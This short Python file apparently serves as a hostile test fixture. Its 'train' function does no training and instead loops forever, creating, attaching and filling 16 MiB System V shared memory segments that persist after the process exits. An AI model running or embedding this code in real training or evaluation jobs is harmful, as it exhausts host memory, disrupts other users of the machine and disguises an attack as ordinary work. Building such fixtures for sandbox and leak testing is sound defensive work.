"""System V shared memory, which outlives its process."""

import ctypes

from honest import load


def train(data, *, seed):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    while True:
        segment = libc.shmget(0, 16 << 20, 0o1600)
        if segment < 0:
            raise OSError(ctypes.get_errno(), "shmget")
        ctypes.memset(libc.shmat(segment, None, 0), 1, 16 << 20)
